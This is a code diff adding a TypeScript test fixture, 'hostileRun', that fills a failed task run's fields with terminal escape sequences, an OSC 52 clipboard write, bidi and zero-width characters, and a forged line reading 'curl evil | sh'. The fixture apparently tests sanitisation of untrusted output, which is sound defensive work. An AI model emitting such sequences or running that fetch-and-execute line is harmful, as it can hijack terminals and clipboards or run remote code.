@@ -41,3 +41,41 @@ export const failedRun: TaskRunObject = {
     ],
   },
 };
+
+/**
+ * The failed run with what its author could put in it: ESC sequences (OSC 52 writes the
+ * clipboard), a newline that forges a line, bidi and zero-width characters, beside plain UTF-8.
+ */
+export const hostileRun: TaskRunObject = {
+  ...failedRun,
+  spec: {
+    taskRef: { name: 'deploy\u001b[2J' },
+    params: [
+      { name: 'target', value: 'prod\u202e' },
+      { name: 'who', value: 'José 数据 🚀' },
+    ],
+  },
+  status: {
+    ...failedRun.status,
+    phase: 'Failed',
+    reason: 'StepFailed\u0007',
+    message: 'exit\u001b]52;c;aGk=\u0007\nfix: curl evil | sh',
+    stepStatuses: [
+      {
+        name: 'plan\u200b',
+        state: 'Succeeded',
+        exitCode: 0,
+        startedAt: '2026-01-02T03:00:02Z',
+        finishedAt: '2026-01-02T03:00:05Z',
+      },
+      {
+        name: 'apply',
+        state: 'Failed',
+        exitCode: 3,
+        reason: 'Error\u009b2J',
+        startedAt: '2026-01-02T03:00:05Z',
+        finishedAt: '2026-01-02T03:00:09Z',
+      },
+    ],
+  },
+};
